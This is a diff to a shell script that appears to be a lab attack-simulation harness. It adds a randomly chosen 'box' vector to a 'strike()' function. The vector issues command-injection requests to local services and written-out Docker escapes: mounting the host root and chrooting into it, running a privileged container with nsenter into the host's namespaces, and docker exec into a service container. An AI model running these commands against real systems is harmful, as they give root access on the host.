@@ -154,7 +154,7 @@ strike() {
 	! { has apache || has fpm; } || vectors+=" web web web web cgi cgi"
 	! has nginx || vectors+=" web web web"
 	local r
-	for r in app gunicorn uwsgi node java tomcat pg redis mail ci cm desk mon; do ! has $r || vectors+=" $r $r"; done
+	for r in box app gunicorn uwsgi node java tomcat pg redis mail ci cm desk mon; do ! has $r || vectors+=" $r $r"; done
 	# shellcheck disable=SC2086
 	one_of ${VECTORS:-$vectors}
 	local vector=$REPLY q
@@ -165,6 +165,13 @@ strike() {
 	web) web "$cmd" "$short" ;;
 	cgi) cgi "$cmd" "$short" ;;
 	app) what="command injection in a Python service: $short"; get "http://127.0.0.1:5000/lookup?name=$(enc ";$cmd")" ;;
+	box)
+		case $((RANDOM % 5)) in
+		0 | 1) what="command injection in a Python service in a container: $short"; get "http://127.0.0.1:5000/lookup?name=$(enc ";$cmd")" ;;
+		2) what="a member of the group docker leaves by a container with the host's root mounted: $short"; as deploy "docker run --rm -v /:/mnt box chroot /mnt sh -c $q" ;;
+		3) what="a privileged container enters the host's namespaces: $short"; as deploy "docker run --rm --privileged --pid=host box nsenter -t 1 -m -u -n -i sh -c $q" ;;
+		4) what="command run in a service's container with a stolen key: $short"; as deploy "docker exec web sh -c $q" ;;
+		esac ;;
 	gunicorn) what="command injection behind gunicorn: $short"; get "http://127.0.0.1:5001/lookup?name=$(enc ";$cmd")" ;;
 	uwsgi) what="command injection behind uwsgi: $short"; get "http://127.0.0.1:5002/lookup?name=$(enc ";$cmd")" ;;
 	node) what="command injection in a Node service: $short"; get "http://127.0.0.1:3000/log?ref=$(enc ";$cmd")" ;;
